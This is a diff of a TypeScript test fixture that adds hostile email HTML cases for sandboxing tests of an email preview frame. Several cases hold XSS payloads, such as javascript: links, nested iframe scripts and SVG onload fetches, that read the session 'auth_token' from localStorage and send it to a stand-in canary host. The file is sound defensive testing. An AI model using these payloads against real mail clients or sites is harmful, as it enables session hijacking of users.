@@ -2,9 +2,10 @@ import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 
 /**
- * A corpus of hostile email HTML for the sandboxing tests (guide §1.7, §6): each case tries to run
- * script, open a dialog, navigate the top page, reach a "canary" server, or smuggle out the
- * session token. Shown through EmailFrame, none of it may work.
+ * A corpus of hostile email HTML for the sandboxing tests (docs/architecture.md §1.7, §6): each
+ * case tries to run script, open a dialog, navigate the top page, reach a "canary" server or the
+ * app's own origin, or smuggle out the session token. Shown through EmailPreview, none of it may
+ * work.
  *
  * Every URL a case must never reach points at `canary` (paths start with /<case name>/, so a hit
  * names its case). Remote images are allowed in emails, so image probes point at `images`, a
@@ -24,12 +25,14 @@ export interface CorpusOrigins {
   canary: string;
   /** e.g. http://127.0.0.1:41235 — remote images may load from here. */
   images: string;
+  /** The app's own origin: an email must not reach it from inside the preview either. */
+  app: string;
 }
 
 /** Marks the document when a script managed to run; tests look for it in the frame. */
 const PWN = `document.documentElement.setAttribute('data-pwned','1')`;
 
-export function hostileCorpus({ canary, images }: CorpusOrigins): HostileCase[] {
+export function hostileCorpus({ canary, images, app }: CorpusOrigins): HostileCase[] {
   const c = (name: string, path = 'hit') => `${canary}/${name}/${path}`;
   // A JS expression: the canary URL with the session token (and cookies) appended.
   const steal = (name: string) =>
@@ -207,6 +210,59 @@ export function hostileCorpus({ canary, images }: CorpusOrigins): HostileCase[] 
       html: `<img src="${images}/map.png" usemap="#m" width="50" height="50" alt=""><map name="m"><area id="area" shape="rect" coords="0,0,50,50" href="javascript:alert(1)"></map>`,
     },
     { name: 'marquee-onstart', html: `<marquee onstart="${PWN};alert(1)">Hi</marquee>` },
+    // The preview frame shares the app's origin (it has no scripts): these try what that could open.
+    {
+      name: 'javascript-link-new-tab',
+      // A javascript: URL in a new tab would run in the app's origin if a popup were allowed.
+      html: `<a id="js-tab" href="javascript:${PWN};new Image().src=${steal('javascript-link-new-tab')}" target="_blank">Open</a><a id="js-named" href="javascript:opener.localStorage.getItem('auth_token')" target="pane">Named</a>`,
+      click: ['#js-tab', '#js-named'],
+    },
+    {
+      name: 'javascript-link-self',
+      html: `<a id="js-self" href="javascript:${PWN};parent.location='${c('javascript-link-self')}?t='+parent.localStorage.getItem('auth_token')" target="_self">Here</a>`,
+      click: ['#js-self'],
+    },
+    {
+      name: 'data-url-link',
+      html: `<a id="data-link" href="data:text/html,<script>opener.location='${c('data-url-link')}'</script>" target="_blank">Data</a>`,
+      click: ['#data-link'],
+    },
+    {
+      name: 'relative-link-to-app',
+      // Resolved against the frame, a relative link must not load the app inside the email.
+      html: `<a id="rel-app" href="/app/account" target="_self">Account</a><a id="rel-app-top" href="${app}/app/account" target="_top">Top</a>`,
+      click: ['#rel-app', '#rel-app-top'],
+    },
+    {
+      name: 'area-target-top',
+      // Clicking the image inside the area's shape follows the area.
+      html: `<img id="top-map-img" src="${images}/area.png" usemap="#top-map" width="50" height="50" alt=""><map name="top-map"><area shape="rect" coords="0,0,50,50" href="${c('area-target-top')}" target="_top"></map>`,
+      click: ['#top-map-img'],
+    },
+    {
+      name: 'form-new-tab',
+      html: `<form action="${c('form-new-tab')}" method="post" target="_blank"><input name="q" value="x"><button id="form-tab">Go</button></form>`,
+      click: ['#form-tab'],
+    },
+    {
+      name: 'nested-frame-asks-for-scripts',
+      // A frame inside the email asking for more than the preview has: sandbox flags only narrow.
+      html: `<iframe sandbox="allow-scripts allow-same-origin allow-popups allow-top-navigation" srcdoc="<script>parent.document.documentElement.setAttribute('data-pwned','1');top.location='${c('nested-frame-asks-for-scripts')}?t='+parent.localStorage.getItem('auth_token')</script>"></iframe>`,
+    },
+    {
+      name: 'svg-image-with-script',
+      // An SVG shown as an image never runs its script; as an object it would (object-src 'none').
+      html: `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${c('svg-image-with-script', 'img')}')"><script>fetch('${c('svg-image-with-script', 'img2')}')</script></svg>`)}" alt=""><object type="image/svg+xml" data="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${c('svg-image-with-script', 'object')}')</script></svg>`)}"></object>`,
+    },
+    {
+      name: 'css-import-app-origin',
+      // Style sheets may load over https only: nothing from the app's own (http) origin either.
+      html: `<style>@import url("${app}/api/user/me");@import url("${c('css-import-app-origin', 'import.css')}");</style><link rel="stylesheet" href="${app}/api/email/history"><link rel="stylesheet prefetch" href="${c('css-import-app-origin', 'multi-rel.css')}"><p>Hi</p>`,
+    },
+    {
+      name: 'meta-refresh-to-app',
+      html: `<meta http-equiv="refresh" content="0;url=${app}/app/account"><meta http-equiv="refresh" content="1;url=${c('meta-refresh-to-app')}"><p>Hi</p>`,
+    },
   ];
   return cases.map((k) => ({ ...k, html: `${k.html}\n<img src="${images}/seen/${k.name}.png" alt="">` }));
 }
